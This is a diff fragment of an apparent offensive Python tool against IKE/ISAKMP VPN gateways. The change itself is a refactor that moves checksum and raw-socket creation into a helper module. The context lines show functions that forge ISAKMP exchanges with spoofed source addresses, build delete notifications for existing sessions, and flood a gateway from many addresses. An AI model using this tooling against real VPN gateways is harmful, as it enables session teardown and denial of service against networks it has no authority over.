@@ -29,12 +29,12 @@ import hmac
 import ipaddress
 import os
 import signal
-import socket
 import struct
 import subprocess
 import sys
 
 from ike_des import DesCbc
+from packets import checksum, raw_socket
 
 SA, KE, ID, HASH, NONCE, NOTIFY, DELETE, VID, ATTR = 1, 4, 5, 8, 10, 11, 12, 13, 14
 MAIN, INFO, TRANSACTION, QUICK = 2, 5, 6, 32
@@ -520,12 +520,6 @@ async def bad(args):
     say("over")
 
 
-def checksum(data):
-    total = sum(struct.unpack(">%dH" % (len(data) // 2), data))
-    total = (total >> 16) + (total & 0xffff)
-    return ~(total + (total >> 16)) & 0xffff
-
-
 def send_raw(raw, source, gateway, number, ike):
     """A datagram in anybody's name; its length."""
     udp = struct.pack(">HHHH", 500, 500, 8 + len(ike), 0) + ike
@@ -538,7 +532,7 @@ def send_raw(raw, source, gateway, number, ike):
 
 def forge(args):
     """Each kind of exchange, in clear and as if encrypted, with what would do harm."""
-    raw = socket.socket(socket.AF_INET, socket.SOCK_RAW, socket.IPPROTO_RAW)
+    raw = raw_socket()
     source = ipaddress.IPv4Address(args.local)
     cky_i, cky_r = bytes.fromhex(args.cky_i), bytes.fromhex(args.cky_r)
     gone = struct.pack(">IBBH", 1, PROTO_ISAKMP, 16, 1) + cky_i + cky_r
@@ -568,7 +562,7 @@ def forge(args):
 
 def flood(args):
     """From as many addresses, half of the offers fit."""
-    raw = socket.socket(socket.AF_INET, socket.SOCK_RAW, socket.IPPROTO_RAW)
+    raw = raw_socket()
     strong = attribute(1, 7) + attribute(14, 256) + attribute(2, 4) + attribute(4, 14) + \
         attribute(3, 1)
     total = 0
